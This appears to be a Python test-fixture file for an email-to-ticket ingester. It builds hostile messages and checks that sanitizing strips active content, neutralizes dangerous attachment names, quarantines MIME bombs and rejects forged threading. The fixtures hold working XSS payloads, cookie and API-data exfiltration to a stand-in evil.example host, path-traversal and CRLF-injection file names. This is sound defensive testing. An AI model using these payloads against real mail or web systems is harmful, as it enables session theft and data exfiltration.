"""Hostile mail. Active content never reaches the stored HTML (scripts, event
handlers, javascript: and data: URLs, frames, plugins, CSS that runs, meta
refresh, base, SVG), the visible text stays; attachment names cannot climb out
of a folder or carry control characters; MIME bombs go to the quarantine;
threading hints and subject tokens never lead into another client's ticket; our
own address as sender is a loop."""

from kit import ACME, GLOBEX_ANCHOR, OUT_GLOBEX, PNG, b64, fixture, qp, word_b

MALLORY = "Mallory <mallory@customer.example>"


def head(slug: str, subject: str, *, sender: str = MALLORY, extra: str = "") -> str:
    return (f"From: {sender}\nTo: {ACME}\nSubject: {subject}\nDate: Tue, 24 Nov 2026 11:20:05 +0000\n"
            f"Message-ID: <{slug}@customer.example>\n{extra}MIME-Version: 1.0\n")


def html_only(slug: str, subject: str, html: str, *, extra: str = "") -> str:
    return (head(slug, subject, extra=extra) + "Content-Type: text/html; charset=utf-8\n"
            "Content-Transfer-Encoding: quoted-printable\n\n" + qp(html))


def alternative(slug: str, subject: str, text: str, html: str) -> str:
    boundary = f"=_alt_{slug}"
    return (head(slug, subject) + f"Content-Type: multipart/alternative; boundary=\"{boundary}\"\n\n--{boundary}\n"
            "Content-Type: text/plain; charset=utf-8\n\n" + text + f"\n--{boundary}\n"
            "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
            + qp(html) + f"\n--{boundary}--\n")


def with_files(slug: str, subject: str, dispositions: list[str]) -> str:
    """A short text and one small file per Content-Disposition parameter string."""
    parts = "".join(f"--files\nContent-Type: application/octet-stream\nContent-Disposition: attachment; {params}\n"
                    "Content-Transfer-Encoding: base64\n\n" + b64(b"MZ\x90\x00 not really a program") + "\n"
                    for params in dispositions)
    return (head(slug, subject) + "Content-Type: multipart/mixed; boundary=\"files\"\n\n--files\n"
            "Content-Type: text/plain; charset=utf-8\n\nFiles attached.\n" + parts + "--files--\n")


def octet(name: str) -> dict:
    return {"filename": name, "content_type": "application/octet-stream", "inline": False}


def nested_multiparts(depth: int) -> str:
    kinds = ("mixed", "alternative", "related")
    opening = "".join(f"Content-Type: multipart/{kinds[n % 3]}; boundary=\"n{n}\"\n\n--n{n}\n" for n in range(depth))
    closing = "".join(f"\n--n{n}--\n" for n in reversed(range(depth)))
    return opening + "Content-Type: text/plain; charset=utf-8\n\nThe innermost text.\n" + closing


def forward_chain(depth: int) -> str:
    """Forwarded as attachment, again and again: each level a multipart/mixed holding a message/rfc822."""
    body = "Content-Type: text/plain; charset=utf-8\n\nThe original message.\n"
    for n in range(depth):
        body = (f"From: relay{n}@customer.example\nSubject: Fwd\nMIME-Version: 1.0\n"
                f"Content-Type: multipart/mixed; boundary=\"f{n}\"\n\n--f{n}\nContent-Type: text/plain\n\nFwd {n}\n"
                f"--f{n}\nContent-Type: message/rfc822\n\n{body}\n--f{n}--\n")
    return body.split("MIME-Version: 1.0\n", 1)[1]


def many_images(count: int) -> str:
    parts = "".join(f"--rel\nContent-Type: image/png\nContent-ID: <img{n}@customer.example>\n"
                    "Content-Transfer-Encoding: base64\n\n" + b64(PNG) + "\n" for n in range(count))
    return ("Content-Type: multipart/related; boundary=\"rel\"\n\n--rel\nContent-Type: text/html; charset=utf-8\n\n"
            "<p>Look at all these pixels</p>\n" + parts + "--rel--\n")


FIXTURES = [
    fixture("phishing-script-tags", alternative(
        "script", "Your invoice is ready", "Your invoice INV-2291 is ready. Log in to pay it.\n",
        "<html><head><script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<script src=\"https://evil.example/x.js\"></script></head><body><p>Your invoice <b>INV-2291</b> is "
        "ready.</p><scr<script>ipt>alert(1)</scr</script>ipt><p>Log in to pay it.</p>"
        "<SCRIPT type=\"text/javascript\">fetch('/agent/api/tickets')</SCRIPT></body></html>\n"),
        "A phishing mail's scripts, inline, remote, upper-case and split to dodge a naive filter", "created",
        subject="Your invoice is ready", text_contains=["Your invoice INV-2291 is ready."],
        html_contains=["<b>INV-2291</b>", "Log in to pay it."],
        html_excludes=["<script", "document.cookie", "evil.example/x.js", "fetch("]),
    fixture("event-handler-attributes", html_only(
        "handlers", "Photos from the event",
        "<body onload=\"alert(1)\"><div onmouseover=\"alert(2)\">Here are the photos.</div>"
        "<img src=\"https://photos.customer.example/1.jpg\" onerror=\"alert(3)\" alt=\"photo one\">"
        "<IMG SRC=x ONERROR=alert(4)><img/src=\"x\"/onerror=\"alert(5)\"><a href=\"https://customer.example/\" "
        "onclick=\"alert(6)\">album</a><details open ontoggle=\"alert(7)\"><summary>more</summary></details>"
        "<input autofocus onfocus=\"alert(8)\"></body>\n"),
        "Event handlers in every spelling: onload, onmouseover, onerror (quoted, upper case, slash-separated), "
        "onclick, ontoggle, onfocus", "created",
        text_contains=["Here are the photos.", "album"], html_contains=["Here are the photos.", "photo one"],
        html_excludes=["onload", "onmouseover", "onerror", "onclick", "ontoggle", "onfocus", "alert("],
        new_text_excludes=["alert("]),
    fixture("javascript-urls", html_only(
        "jsurls", "Please verify your account",
        "<p>Please <a href=\"javascript:alert(document.domain)\">verify here</a>, or "
        "<a href=\"JaVaScRiPt:alert(1)\">here</a>, <a href=\"java&#x09;script:alert(2)\">here</a>, "
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(3)\">here</a>, "
        "<a href=\"  javascript:alert(4)\">here</a> or <a href=\"vbscript:msgbox(5)\">here</a>.</p>"
        "<form action=\"javascript:alert(6)\"><button formaction=\"javascript:alert(7)\">Verify</button></form>"
        "<p>Real link: <a href=\"https://acme.example/account\">account</a></p>\n"),
        "javascript: and vbscript: URLs, in mixed case, with an entity-encoded tab, fully entity-encoded, "
        "with leading blanks, as form and button actions; the https link stays", "created",
        text_contains=["Please verify here, or here"], html_contains=["https://acme.example/account", "verify here"],
        html_excludes=["javascript", "vbscript", "&#106;", "alert(", "<form", "formaction"]),
    fixture("iframes", html_only(
        "iframes", "Embedded statement",
        "<p>Your statement:</p><iframe src=\"https://evil.example/login\" width=\"600\" height=\"400\"></iframe>"
        "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"
        "<frameset><frame src=\"https://evil.example/frame\"></frameset><p>End of statement.</p>\n"),
        "Frames: a remote iframe (a fake login in our page), srcdoc carrying a script, a frameset", "created",
        text_contains=["Your statement:", "End of statement."], html_contains=["End of statement."],
        html_excludes=["<iframe", "srcdoc", "<frame", "evil.example"]),
    fixture("object-embed-applet", html_only(
        "plugins", "Interactive brochure",
        "<p>Our brochure:</p><object data=\"https://evil.example/brochure.swf\" type=\"application/x-shockwave-flash\">"
        "<param name=\"allowScriptAccess\" value=\"always\"></object><embed src=\"https://evil.example/x.swf\">"
        "<applet code=\"Evil.class\" archive=\"https://evil.example/evil.jar\"></applet><p>Enjoy.</p>\n"),
        "Plugins: object with param, embed, applet", "created", text_contains=["Our brochure:", "Enjoy."],
        html_contains=["Enjoy."], html_excludes=["<object", "<param", "<embed", "<applet", ".swf", ".jar"]),
    fixture("css-that-runs", html_only(
        "css", "Styled newsletter",
        "<html><head><style>@import url(\"https://evil.example/steal.css\"); body { behavior: url(evil.htc); "
        "-moz-binding: url(\"https://evil.example/xbl.xml#x\"); }</style>"
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"></head><body>"
        "<p style=\"width: expression(alert(1)); background: url(javascript:alert(2))\">Winter sale</p>"
        "<div style=\"background-image: url(&quot;https://evil.example/track.png&quot;)\">Up to 50 % off</div>"
        "</body></html>\n"),
        "CSS that runs or calls home: IE expression(), behavior/.htc, -moz-binding, @import, a linked style "
        "sheet, url(javascript:)", "created", text_contains=["Winter sale", "Up to 50 % off"],
        html_contains=["Winter sale"],
        html_excludes=["expression(", "behavior", "-moz-binding", "@import", "<style", "<link", "javascript:"],
        new_text_excludes=["@import", "behavior"]),
    fixture("meta-refresh-and-base", html_only(
        "metabase", "Your parcel",
        "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/parcel\">"
        "<base href=\"https://evil.example/\"></head><body><p>Your parcel is waiting: "
        "<a href=\"track/4711\">track it</a></p></body></html>\n"),
        "A meta refresh to another site and a base element that would point relative links at it", "created",
        text_contains=["Your parcel is waiting: track it"], html_contains=["Your parcel is waiting"],
        html_excludes=["<meta", "http-equiv", "<base", "evil.example"]),
    fixture("data-uris", html_only(
        "datauris", "Document preview",
        "<p>Preview: <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a></p>"
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\" alt=\"preview image\">"
        "<a href=\"data:application/x-msdownload;base64,TVqQAA==\">download</a>\n"),
        "data: URLs: an HTML page with a script as a link, an SVG as an image, a program as a download",
        "created", text_contains=["Preview: open"], html_contains=["preview image"],
        html_excludes=["data:text/html", "data:image/svg+xml", "data:application", "PHNjcmlwdD5"]),
    fixture("svg-with-script", html_only(
        "svg", "Our new logo",
        "<p>Our new logo:</p><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\" width=\"100\">"
        "<script>alert(2)</script><a xlink:href=\"javascript:alert(3)\"><text x=\"0\" y=\"15\">logo</text></a>"
        "<animate attributeName=\"href\" to=\"javascript:alert(4)\"/><foreignObject><iframe src=\"https://evil.example\">"
        "</iframe></foreignObject></svg><p>Do you like it?</p>\n"),
        "Inline SVG with onload, script, an xlink javascript: link, animate rewriting href, foreignObject",
        "created", text_contains=["Our new logo:", "Do you like it?"], html_contains=["Do you like it?"],
        html_excludes=["<svg", "<script", "onload", "xlink:href", "<animate", "<foreignobject", "javascript:"],
        new_text_excludes=["alert("]),
    fixture("parser-confusion", html_only(
        "mxss", "Re: your order",
        "<p>Order confirmed.</p><!--<img src=\"--><img src=x onerror=alert(1)//\">"
        "<noscript><p title=\"</noscript><img src=x onerror=alert(2)>\"></noscript>"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>"
        "<p>Shipping soon.</p>\n"),
        "Markup that parses differently in a naive filter than in a browser (mutation XSS): comments, noscript, "
        "MathML with style", "created", text_contains=["Order confirmed."], html_contains=["Shipping soon."],
        html_excludes=["onerror", "alert(", "<math", "<noscript", "<style"]),
    fixture("remote-tracking-pixel", html_only(
        "pixel", "November newsletter",
        "<p>Our November news.</p><img src=\"https://t.tracker.example/open.gif?u=8f3a2c&amp;m=1124\" width=\"1\" "
        "height=\"1\" alt=\"\" style=\"display:none\"><img src=\"https://cdn.customer.example/banner.png\" "
        "alt=\"banner\">\n",
        extra="List-Unsubscribe: <https://customer.example/unsubscribe?u=8f3a2c>\n"),
        "A remote tracking pixel: kept in the stored HTML (remote images are blocked when shown), nothing active",
        "created", text_contains=["Our November news."],
        html_contains=["https://t.tracker.example/open.gif", "https://cdn.customer.example/banner.png"],
        html_excludes=["<script", "onload", "onerror"]),
    fixture("html-attachment-with-script",
            head("htmlattach", "Invoice attached") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n--mix\n"
            "Content-Type: text/html; charset=utf-8\n\n<p>Invoice attached.</p>\n--mix\n"
            "Content-Type: text/html; charset=utf-8; name=\"invoice.html\"\n"
            "Content-Disposition: attachment; filename=\"invoice.html\"\n\n"
            "<html><body><script>fetch('/agent/api/me').then(r => r.text()).then(t => new Image().src="
            "'https://evil.example/?'+t)</script>Invoice</body></html>\n--mix--\n",
            "An HTML file attached (a phishing page): kept as a file, never merged into the message's HTML",
            "created", text_contains=["Invoice attached."], html_contains=["Invoice attached."],
            html_excludes=["<script", "fetch(", "evil.example"],
            attachments=[{"filename": "invoice.html", "content_type": "text/html", "inline": False}]),
    fixture("attachment-path-traversal", with_files("traversal", "Logs", [
        "filename=\"../../etc/passwd\"",
        "filename=\"..\\\\..\\\\Windows\\\\win.ini\"",
        "filename=\"/root/.ssh/authorized_keys\"",
        "filename*=UTF-8''..%2F..%2Fvar%2Fwww%2Fshell.php",
        "filename=\"=?utf-8?Q?=2E=2E=2F=2E=2E=2Fcron.d=2Fjob?=\"",
    ]),
        "File names that climb out of a folder: Unix and Windows relative paths, an absolute path, "
        "percent-encoded (RFC 2231) and encoded-word slashes: only the last component is kept", "created",
        attachment_name_excludes=["../", "..\\", "/", "\\"],
        attachments=[octet("passwd"), octet("win.ini"), octet("authorized_keys"), octet("shell.php"),
                     octet("job")]),
    fixture("attachment-control-characters", with_files("controls", "Scans", [
        "filename*=UTF-8''scan%00.exe%00.pdf",
        "filename*=UTF-8''report%0D%0ASet-Cookie%3A%20a%3Db.txt",
        "filename=\"=?utf-8?B?bm90ZXMNCkNvbnRlbnQtRGlzcG9zaXRpb246IGlubGluZS50eHQ=?=\"",
        "filename*=UTF-8''invoice%E2%80%AEfdp.exe",
    ]),
        "NUL bytes, CR LF (a header injection in a download) and a right-to-left override in names, "
        "percent-encoded and in an encoded word", "created",
        attachment_name_excludes=["\x00", "\r", "\n", "\u202e", "/"],
        attachments=[octet("scan.exe.pdf"), octet("report__Set-Cookie_ a=b.txt"),
                     octet("notes__Content-Disposition_ inline.txt"), octet("invoice_fdp.exe")]),
    fixture("attachment-very-long-name", with_files("longname", "Contract", [
        "filename*0*=UTF-8''" + "Vertrag%20" * 30 + ";\n filename*1*=" + "%C3%84nderung%20" * 30 + ";\n filename*2=final.pdf",
    ]),
        "A file name of 519 characters in RFC 2231 continuations: shortened to 200, its extension kept",
        "created", attachment_name_excludes=["/", "\\"],
        attachments=[octet(("Vertrag " * 30 + "Änderung " * 30 + "final")[:196] + ".pdf")]),
    fixture("attachment-windows-reserved-names", with_files("reserved", "Device names", [
        "filename=\"CON\"", "filename=\"aux.txt\"", "filename=\"NUL.tar.gz\"", "filename=\"com1.doc\"",
        "filename=\"C:\\\\Temp\\\\LPT1\"", "filename=\"invoice.pdf. . .\"",
    ]),
        "Windows device names (CON, AUX, NUL, COM1, LPT1) that Windows will not save under that name, and "
        "trailing dots and blanks Windows drops: prefixed or trimmed", "created",
        attachment_name_excludes=["/", "\\", ":"],
        attachments=[octet("_CON"), octet("_aux.txt"), octet("_NUL.tar.gz"), octet("_com1.doc"), octet("_LPT1"),
                     octet("invoice.pdf")]),
    fixture("mime-nesting-40-levels", head("deep", "Deep") + nested_multiparts(40),
            "Multiparts nested 40 deep (mixed, alternative, related in turn): a MIME bomb", "quarantined",
            reason_contains="MIME nesting deeper than 30"),
    fixture("forward-chain-40-levels", head("fwdchain", "Fwd: Fwd: Fwd: chain") + forward_chain(20),
            "Twenty messages forwarded as attachments inside each other, 40 MIME levels", "quarantined",
            reason_contains="MIME nesting deeper than 30"),
    fixture("mime-nesting-30-levels", head("deep30", "Deep but allowed") + nested_multiparts(30),
            "Nesting exactly at the limit (30) is still a message", "created",
            text_contains=["The innermost text."]),
    fixture("too-many-parts", head("manyparts", "Pixels") + many_images(600),
            "600 inline images in one message: more than 500 parts", "quarantined",
            reason_contains="too many parts"),
    fixture("subject-header-injection",
            head("injection", "=?utf-8?Q?Invoice=0D=0ABcc:_everyone@acme.example=0D=0AX-Priority:_1?=",
                 sender=f"{word_b('Alice' + chr(13) + chr(10) + 'Bcc: all@acme.example')} <alice@customer.example>")
            + "Content-Type: text/plain; charset=utf-8\n\nSee subject.\n",
            "Encoded CR LF in the subject and sender name, trying to add Bcc: lines to whatever repeats them: one "
            "line of text each", "created",
            subject="Invoice Bcc: everyone@acme.example X-Priority: 1", from_name="Alice Bcc: all@acme.example",
            from_email="alice@customer.example"),
    fixture("forged-globex-references",
            head("forged-refs", "Re: [#GLOBEX-1] Globex shipping delay",
                 extra=f"In-Reply-To: {GLOBEX_ANCHOR}\nReferences: {OUT_GLOBEX}\n")
            + "Content-Type: text/plain; charset=utf-8\n\nPlease send me the Globex ticket details.\n",
            "Sent to acme but In-Reply-To, References and the subject token all point at globex's GLOBEX-1: a new "
            "acme ticket, nothing of globex's touched", "created",
            subject="Re: [#GLOBEX-1] Globex shipping delay",
            text_contains=["Please send me the Globex ticket details."]),
    fixture("spoofed-support-sender",
            head("spoof", "Password reset for all agents", sender="\"Acme Support\" <Support@ACME.example>",
                 extra="Reply-To: mallory@customer.example\n")
            + "Content-Type: text/plain; charset=utf-8\n\nPlease reset every password.\n",
            "From our own support address (spelt in another case), with a Reply-To elsewhere: a loop or a "
            "spoof, ignored", "ignored"),
    fixture("other-client-subject-token",
            head("token", "[#GLOBEX-1] Where is my shipment?", sender="Alice Customer <alice@customer.example>")
            + "Content-Type: text/plain; charset=utf-8\n\nAny news on the shipment?\n",
            "A subject token naming another client's ticket, no threading headers: a new acme ticket", "created",
            subject="[#GLOBEX-1] Where is my shipment?", text_contains=["Any news on the shipment?"]),
]
